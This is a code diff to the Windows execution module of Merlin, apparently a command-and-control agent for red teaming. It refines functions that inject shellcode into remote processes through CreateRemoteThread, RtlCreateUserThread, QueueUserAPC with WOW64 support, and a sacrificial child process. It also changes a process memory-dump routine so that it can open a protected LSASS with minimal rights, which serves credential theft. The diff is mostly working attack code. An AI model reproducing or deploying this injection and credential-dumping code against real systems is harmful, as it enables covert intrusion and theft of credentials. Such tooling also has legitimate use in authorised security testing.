@@ -35,6 +35,11 @@ import (
 	// X Packages
 	"golang.org/x/sys/windows"
 
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
+
 	// Sub Repositories
 	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/pipes"
 	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/tokens"
@@ -97,12 +102,12 @@ func executeCommandWithAttributes(name string, args []string, attr *syscall.SysP
 	cmd := exec.Command(application, args...)
 	cmd.SysProcAttr = attr
 
-	out, err := cmd.CombinedOutput()
+	out, err := run(cmd)
 	if cmd.Process != nil {
 		stdout = fmt.Sprintf("Created %s process with an ID of %d\n", application, cmd.Process.Pid)
 	}
 
-	stdout += string(out)
+	stdout += transcode(out)
 
 	if err != nil {
 		stderr = err.Error()
@@ -168,6 +173,11 @@ func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
 	}
 	defer TearDown()
 
+	// Check the process's architecture before writing to it
+	if _, err = targetArch(pid, "inject"); err != nil {
+		return err
+	}
+
 	pHandle, errOpenProcess := syscall.OpenProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, false, pid)
 
 	if errOpenProcess != nil {
@@ -227,6 +237,11 @@ func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
 	}
 	defer TearDown()
 
+	// Check the process's architecture before writing to it
+	if _, err = targetArch(pid, "inject"); err != nil {
+		return err
+	}
+
 	pHandle, errOpenProcess := syscall.OpenProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, false, pid)
 
 	if errOpenProcess != nil {
@@ -311,6 +326,12 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 	}
 	defer TearDown()
 
+	// Check the process's architecture before writing to it, WOW64 threads need an encoded APC routine
+	wow64, err := targetArch(pid, "inject")
+	if err != nil {
+		return err
+	}
+
 	// Consider using NtQuerySystemInformation to replace CreateToolhelp32Snapshot AND to find a thread in a wait state
 	// https://stackoverflow.com/questions/22949725/how-to-get-thread-state-e-g-suspended-memory-cpu-usage-start-time-priori
 
@@ -386,7 +407,11 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 					return errors.New("Error calling OpenThread:\r\n" + errOpenThread.Error())
 				}
 				// fmt.Println(fmt.Sprintf("Queueing APC for PID: %d, Thread %d", pid, t.th32ThreadID))
-				_, _, errQueueUserAPC := QueueUserAPC.Call(addr, tHandle, 0)
+				routine := addr
+				if wow64 {
+					routine = wow64ApcRoutine(addr)
+				}
+				_, _, errQueueUserAPC := QueueUserAPC.Call(routine, tHandle, 0)
 				if errQueueUserAPC.Error() != "The operation completed successfully." {
 					return errors.New("Error calling QueueUserAPC:\r\n" + errQueueUserAPC.Error())
 				}
@@ -418,6 +443,8 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 	if errDecode != nil {
 		return stdout, stderr, fmt.Errorf("there  was an error decoding the Base64 string: %s", errDecode)
 	}
+	// The shellcode is written to the child process so it is zeroed when this function returns
+	defer secure.Zero(shellcode)
 
 	// Load DLLs and Procedures
 	kernel32 := windows.NewLazySystemDLL("kernel32.dll")
@@ -477,6 +504,17 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 		stdout += fmt.Sprintf("Created %s process with an ID of %d\n", application, lpProcessInformation.ProcessId)
 	}
 
+	// Track the sacrificial process until its output has been read so an exit with cleanup doesn't leave it running
+	pid := lpProcessInformation.ProcessId
+	remove := cleanup.Add(cleanup.PROCESS, fmt.Sprintf("%s (%d)", application, pid), func() error {
+		proc, err := os.FindProcess(int(pid))
+		if err != nil {
+			return err
+		}
+		return proc.Kill()
+	})
+	defer remove()
+
 	// Allocate memory in child process
 	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(lpProcessInformation.Process), 0, uintptr(len(shellcode)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
 
@@ -512,7 +550,9 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 		if ntStatus == 3221225476 {
 			return stdout, stderr, fmt.Errorf("error calling NtQueryInformationProcess: STATUS_INFO_LENGTH_MISMATCH") // 0xc0000004 (3221225476)
 		}
-		fmt.Println(fmt.Sprintf("[!]NtQueryInformationProcess returned NTSTATUS: %x(%d)", ntStatus, ntStatus))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("NtQueryInformationProcess returned NTSTATUS: %x(%d)", ntStatus, ntStatus))
+		}
 		return stdout, stderr, fmt.Errorf("error calling NtQueryInformationProcess:\r\n\t%s", syscall.Errno(ntStatus))
 	}
 
@@ -658,10 +698,11 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 
 	// Read from the pipes
 	_, out, stderr, err := pipes.ReadPipes(0, stdOutRead, stdErrRead)
+	stderr = transcode([]byte(stderr))
 	if err != nil {
 		stderr += err.Error()
 	}
-	stdout += out
+	stdout += transcode([]byte(out))
 
 	// Close the "read" pipe handles
 	err = pipes.ClosePipes(stdInRead, 0, stdOutRead, 0, stdErrRead, 0)
@@ -715,10 +756,18 @@ func miniDump(tempDir string, process string, inPid uint32) (map[string]interfac
 	}
 
 	// Get a handle to process
-	hProc, err := syscall.OpenProcess(0x1F0FFF, false, mini["ProcID"].(uint32)) //PROCESS_ALL_ACCESS := uint32(0x1F0FFF)
+	// A 32-bit agent can't read the address space of a 64-bit process
+	if _, err = targetArch(mini["ProcID"].(uint32), "dump"); err != nil {
+		return mini, err
+	}
+
+	// PROCESS_QUERY_INFORMATION | PROCESS_VM_READ is all MiniDumpWriteDump needs, and is what can be cloned from a protected LSASS
+	hProc, note, err := openCredentialProcess(mini["ProcID"].(uint32), windows.PROCESS_QUERY_INFORMATION|windows.PROCESS_VM_READ)
 	if err != nil {
 		return mini, err
 	}
+	defer windows.CloseHandle(hProc)
+	mini["Note"] = note
 
 	// Set up the temporary file to write to, automatically remove it once done
 	// TODO: Work out how to do this in memory